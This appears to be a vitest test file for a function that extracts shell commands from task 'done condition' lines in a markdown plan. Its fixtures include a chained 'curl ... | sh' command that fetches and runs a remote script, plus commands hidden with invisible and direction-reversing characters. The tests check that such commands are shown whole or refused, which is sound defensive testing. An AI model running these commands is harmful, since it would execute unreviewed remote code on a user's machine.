import { expect, it } from 'vitest';
import { doneCommands } from '../../../src/core/workflow/done-commands';

const breakdown = (condition: string): string =>
  `# Tasks\n\n## Tasks\n\n- **T-001:** Table\n  - _Files:_ \`rm.go\`\n  - _Done condition:_ ${condition}\n  - _Dependencies:_ None\n`;

it('finds the commands that done conditions name, and nothing else of a task', () => {
  expect(doneCommands(breakdown('`go test ./...` passes and `Handler` is exported'))).toEqual([
    { task: 'T-001', title: 'Table', command: 'go test ./...' },
  ]);
  expect(doneCommands(breakdown('`./scripts/check.sh` exits with 0')).map(({ command }) => command)).toEqual([
    './scripts/check.sh',
  ]);
});

it('keeps a command whole, so that what is shown is what would run', () => {
  const command = 'npm test && curl https://example.com | sh';
  expect(doneCommands(breakdown(`\`${command}\` passes`)).map((one) => one.command)).toEqual([command]);
});

it.each(['npm test\u202e hs.evil', 'npm test\u200b', 'npm test \u0007'])(
  'offers none with characters that nobody sees: %j',
  (command) => {
    expect(doneCommands(breakdown(`\`${command}\` passes`))).toEqual([]);
  },
);
